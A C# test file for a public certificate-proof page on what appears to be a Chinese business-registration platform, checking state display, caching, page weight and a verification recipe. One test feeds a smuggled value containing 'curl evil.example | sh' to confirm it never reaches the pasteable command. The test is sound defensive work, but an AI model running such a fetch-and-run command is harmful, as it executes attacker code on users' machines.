using System.IO.Compression;
using System.Text;
using System.Text.RegularExpressions;
using Platform.Web.Shared.Pages;
using Platform.Web.Tests.Fakes;

namespace Platform.Web.Tests.Pages;

/// <summary>The page behind the QR code: for strangers, on telephones, true at this moment.</summary>
public sealed partial class ProofPageTests
{
    private const string Number = "DJZ-JA-2026-000001";
    private const int Budget = 30 * 1024;

    public static TheoryData<string, string, string[]> States => new()
    {
        { "valid", "", ["有效"] },
        { "expired", "", ["已过有效期"] },
        { "replaced", ""","replacedBy":"DJZ-JA-2027-000002","replacedOn":"2027-01-02" """, ["已被替换", "href=\"/certificates/DJZ-JA-2027-000002\""] },
        { "revoked", ""","revokedOn":"2026-11-20","revokedFor":{"code":"approval-revoked","title":"准予登记的决定已被撤销"},"revokedProvision":"行政许可法第69条" """, ["已失效", "2026年11月20日", "准予登记的决定已被撤销", "第69条"] },
    };

    [Theory, MemberData(nameof(States))]
    public async Task It_says_at_once_whether_the_certificate_counts(string state, string more, string[] words)
    {
        using var site = await ShowingAsync(state, more);

        var html = await site.PageAsync($"/certificates/{Number}");

        Html.IsClean(html);
        Assert.Contains($"data-state=\"{state}\"", html, StringComparison.Ordinal);
        Assert.All(words, said => Assert.Contains(said, html, StringComparison.Ordinal));
        Assert.True(html.IndexOf(words[0], html.IndexOf("<h1", StringComparison.Ordinal), StringComparison.Ordinal) > 0);
    }

    [Fact]
    public async Task It_is_never_kept_and_needs_no_script()
    {
        using var site = await ShowingAsync("valid");

        using var answer = await site.Browser.GetAsync($"/certificates/{Number}", TestContext.Current.CancellationToken);

        Assert.True(answer.Headers.CacheControl!.NoStore);
        Assert.DoesNotContain("<script", await answer.Content.ReadAsStringAsync(TestContext.Current.CancellationToken), StringComparison.Ordinal);
    }

    [Fact]
    public async Task With_its_styles_it_weighs_at_most_thirty_kilobytes()
    {
        using var site = await ShowingAsync("valid");
        var html = await site.PageAsync($"/certificates/{Number}");
        long weight = Compressed(Encoding.UTF8.GetBytes(html));
        foreach (var asset in Loaded().Matches(html).Select(match => match.Groups[1].Value).Distinct())
        {
            using var request = new HttpRequestMessage(HttpMethod.Get, asset);
            request.Headers.AcceptEncoding.ParseAdd("br");
            using var answer = await site.Browser.SendAsync(request, TestContext.Current.CancellationToken);
            weight += (await answer.Content.ReadAsByteArrayAsync(TestContext.Current.CancellationToken)).Length;
        }

        Assert.Contains(new Assets().Style, html, StringComparison.Ordinal);
        Assert.InRange(weight, 4 * 1024, Budget);
    }

    [Fact]
    public async Task One_that_was_issued_before_the_platform_signed_offers_no_file_and_says_why()
    {
        using var signed = await ShowingAsync("valid", $$""","signedFile":"/api/representative-offices/public/certificates/{{Number}}/signed" """);
        Assert.Contains($"href=\"/api/representative-offices/public/certificates/{Number}/signed\" download", await signed.PageAsync($"/certificates/{Number}"), StringComparison.Ordinal);

        using var unsigned = await ShowingAsync("valid");
        var html = await unsigned.PageAsync($"/certificates/{Number}");
        Assert.Contains("id=\"not-signed\"", html, StringComparison.Ordinal);
        Assert.DoesNotContain("id=\"signed-file\"", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("zh-CN")]
    [InlineData("en")]
    public async Task How_to_verify_without_us_stands_on_a_page_of_its_own(string language)
    {
        using var site = await Site.ApplicantAsync(language: language);
        site.SignOut();

        var html = await site.PageAsync($"/certificates/verify?number={Number}");

        Html.IsClean(html);
        Assert.Contains($"NUMBER={Number}", html, StringComparison.Ordinal);
        Assert.Contains("/api/representative-offices/public/keys", html, StringComparison.Ordinal);
    }

    // Accident: a link with a number of somebody's making puts a command of theirs into a recipe that people paste.
    [Fact]
    public async Task What_is_no_number_gets_into_no_command()
    {
        using var site = await Site.ApplicantAsync();

        var html = await site.PageAsync($"/certificates/verify?number={Uri.EscapeDataString("X\"; curl evil.example | sh; \"")}");

        Assert.DoesNotContain("curl evil", html[..html.LastIndexOf("</pre>", StringComparison.Ordinal)], StringComparison.Ordinal);
    }

    private static async Task<Site> ShowingAsync(string state, string more = "")
    {
        var site = await Site.ApplicantAsync();
        site.SignOut();
        site.Services.Answer("GET", $"/public/certificates/{Number}", 200, $$"""
            {"number":"{{Number}}","kind":"registration-certificate","title":"外国（地区）企业常驻代表机构登记证","state":"{{state}}","subject":"德国晨星有限公司上海代表处",
             "issuedOn":"2026-11-20","validTo":"2029-11-20","issuedBy":"上海市静安区市场监督管理局","ofPerson":false{{more}}}
            """);
        return site;
    }

    private static long Compressed(byte[] content)
    {
        using var target = new MemoryStream();
        using (var brotli = new BrotliStream(target, CompressionLevel.Fastest, leaveOpen: true))
            brotli.Write(content);
        return target.Length;
    }

    [GeneratedRegex("(?:src|href)=\"(/assets/[^\"]+)\"")]
    private static partial Regex Loaded();
}
